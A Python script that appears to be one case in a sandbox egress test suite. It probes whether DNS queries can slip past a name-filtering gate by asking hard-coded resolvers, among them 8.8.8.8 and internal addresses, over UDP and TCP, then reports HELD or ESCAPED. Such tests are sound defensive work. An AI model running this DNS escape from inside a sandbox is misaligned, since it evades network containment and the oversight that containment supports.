# attack: name servers of one's own choice
# family: 19
# runs: exec
# stopped-by: gate-names
# network: {"rules": [{"allow": "allowed.example"}]}
#
# A resolver that is hard-coded, over UDP and TCP, evades whoever only writes /etc/resolv.conf.
import os
import socket
import struct

_SERVERS = ("93.184.216.53", "8.8.8.8", "127.0.0.1", "127.0.0.53", "10.200.0.2", "198.18.0.1")


def _talk(host, port, text):
    """What comes back until the other side ends, or as much as came before it reset."""
    got = b""
    try:
        with socket.create_connection((host, port), 5) as s:
            s.sendall(text)
            while part := s.recv(65536):
                got += part
    except OSError:
        pass
    return got


def _get(host, path="/", port=80):
    return _talk(host, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


def _ask(labels, kind=1, server="198.18.0.1"):
    """(code, number of answers) of a question by UDP, its labels as bytes."""
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.connect((server, 53))
        s.send(struct.pack(">6H", 7, 256, 1, 0, 0, 0) + name + struct.pack(">2H", kind, 1))
        answer = s.recv(4096)
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]


def _by_stream(server, question):
    try:
        with socket.create_connection((server, 53), 5) as s:
            s.settimeout(5)
            s.sendall(struct.pack(">H", len(question)) + question)
            answer = s.recv(4096)
            return len(answer) > 9 and answer[9] > 0
    except OSError:
        return False


def attack():
    if _ask([b"allowed", b"example"]) != (0, 1):
        return "BROKEN: not even the allowed name"
    mark = "direct" + os.urandom(4).hex()
    labels = [mark.encode(), b"tunnel", b"example"]
    question = (
        struct.pack(">6H", 7, 256, 1, 0, 0, 0)
        + b"".join(bytes([len(part)]) + part for part in labels)
        + b"\0"
        + struct.pack(">2H", 1, 1)
    )
    for server in _SERVERS:
        try:
            found = _ask(labels, server=server)[1] > 0
        except OSError:
            found = False
        if found or _by_stream(server, question):
            return f"ESCAPED: {server} answered"
    seen = _get("allowed.example", "/seen")
    return "ESCAPED: the question arrived" if mark.encode() in seen else "HELD: every name server is the gate"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
